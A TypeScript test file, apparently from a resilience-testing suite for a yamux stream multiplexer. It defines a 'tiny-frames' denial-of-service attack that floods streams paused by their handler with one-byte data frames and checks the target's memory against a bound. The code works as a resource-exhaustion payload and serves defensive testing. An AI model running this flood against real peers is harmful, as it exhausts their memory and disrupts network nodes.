import { PAUSED } from './framework/protocols.ts'
import { muxerOf } from './framework/target.ts'
import type { Attack } from './framework/attack.ts'

const STREAMS = 8
const FRAME_LENGTH = 13
const STREAM_ID_OFFSET = 4
const LENGTH_OFFSET = 8

/**
 * Together these are less than the window of a stream
 */
const FRAMES = 1_000
const BATCHES = 120

/**
 * Data frames of yamux with one byte each
 */
function tinyFrames (streamId: number): Uint8Array {
  const frames = new Uint8Array(FRAMES * FRAME_LENGTH)
  const view = new DataView(frames.buffer)

  for (let offset = 0; offset < frames.length; offset += FRAME_LENGTH) {
    view.setUint32(offset + STREAM_ID_OFFSET, streamId)
    view.setUint32(offset + LENGTH_OFFSET, 1)
  }

  return frames
}

/**
 * A byte in a chunk of its own weighs a hundred times as much
 */
export const tinyFramesAttack: Attack = {
  name: 'tiny-frames',
  what: 'two peers send single bytes over each of 8 streams to a handler that has paused them',
  attackers: 2,
  honest: 'stranger',
  refused: false,
  bounds: { resident: 192 },
  run: async (target) => {
    const connection = await target.connect(await target.startNode(target.attacker))
    const muxer = muxerOf(connection)
    const streams = await Promise.all(Array.from({ length: STREAMS }, async () => {
      return connection.newStream(PAUSED, { signal: target.signal })
    }))

    await target.repeat(STREAMS * BATCHES, 1, async i => {
      // past the stream, which would send them together
      muxer.send(tinyFrames(Number(streams[i % STREAMS].id)))
      await muxer.ping()
    })
  }
}
